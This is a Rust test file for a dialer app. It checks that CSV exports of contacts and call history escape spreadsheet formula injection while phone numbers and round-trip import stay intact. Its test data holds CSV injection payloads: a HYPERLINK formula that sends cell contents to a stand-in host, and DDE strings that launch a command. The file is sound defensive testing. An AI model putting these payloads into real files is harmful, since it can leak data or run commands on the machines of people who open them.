//! Exported CSV (contacts and call history) opened in a spreadsheet must not run anything: a
//! cell starting with `=`, `+`, `-`, `@`, a tab or CR gets a leading `'`. Phone numbers stay as
//! they are, and the importer reads the file back to the same contacts.

use callpad_core::calls::{NewCall, history};
use callpad_core::contacts::{ContactInput, ContactStore, NumberInput, commit, preview, to_csv};
use callpad_core::db;

const HOSTILE: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
];

fn cells(csv: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

fn starts_risky(cell: &str) -> bool {
    matches!(
        cell.as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    )
}

#[test]
fn contacts_export_neutralises_formulas_and_reads_back_the_same() {
    let mut store = ContactStore::new(db::open_in_memory().unwrap()).unwrap();
    for (i, text) in HOSTILE.iter().enumerate() {
        store
            .add(
                &ContactInput {
                    name: format!("{} {i}", text.trim()),
                    company: Some(text.trim().to_owned()),
                    numbers: vec![NumberInput {
                        label: "mobile".into(),
                        number: format!("+1 201 555 01{i:02}"),
                    }],
                    notes: text.to_string(),
                    tags: vec![text.trim().to_owned()],
                    ..ContactInput::default()
                },
                None,
            )
            .unwrap();
    }
    let before = store.list().unwrap();
    let csv = to_csv(&before);
    let rows = cells(&csv);
    for row in &rows[1..] {
        for cell in row {
            if cell.starts_with("+1201555") {
                assert!(!cell.starts_with('\''), "{cell}");
                continue;
            }
            assert!(!starts_risky(cell), "a spreadsheet would run {cell:?}");
        }
    }
    let mut again = ContactStore::new(db::open_in_memory().unwrap()).unwrap();
    let preview = preview(&again, &csv, None).unwrap();
    assert!(preview.rejected.is_empty(), "{:?}", preview.rejected);
    commit(&mut again, &preview, |_, _| {}).unwrap();
    let after = again.list().unwrap();
    let strip = |c: &callpad_core::contacts::Contact| {
        (
            c.name.clone(),
            c.company.clone(),
            // The importer trims cells, so a note's leading tab does not come back.
            c.notes.trim().to_owned(),
            c.tags.clone(),
            c.numbers.iter().map(|n| n.dial.clone()).collect::<Vec<_>>(),
        )
    };
    assert_eq!(
        after.iter().map(strip).collect::<Vec<_>>(),
        before.iter().map(strip).collect::<Vec<_>>()
    );
}

#[test]
fn history_export_neutralises_formulas() {
    let conn = db::open_in_memory().unwrap();
    for (i, text) in HOSTILE.iter().enumerate() {
        history::begin(
            &conn,
            &NewCall {
                profile: text.to_string(),
                mode: callpad_core::calls::ModeName::DeliverMessage,
                from: "+12065550100".into(),
                to: format!("+1201555010{i}"),
                caller_id: "+12065550100".into(),
                contact_id: None,
                contact_name: Some(text.to_string()),
                created_at_ms: 1_700_000_000_000 + i as i64,
            },
        )
        .unwrap();
    }
    let mut out = Vec::new();
    history::export_csv(&conn, &mut out).unwrap();
    let rows = cells(&out);
    assert_eq!(rows.len(), 1 + HOSTILE.len());
    let mut names = Vec::new();
    for row in &rows[1..] {
        for cell in row {
            let number = cell.starts_with('+') && cell[1..].bytes().all(|b| b.is_ascii_digit());
            assert!(
                number || !starts_risky(cell),
                "a spreadsheet would run {cell:?}"
            );
        }
        names.push(row[3].clone());
    }
    for text in HOSTILE {
        assert!(names.contains(&format!("'{text}")), "{names:?}");
    }
    // Numbers are not touched.
    assert!(rows[1..].iter().all(|r| r[4].starts_with("+1201555010")));
}
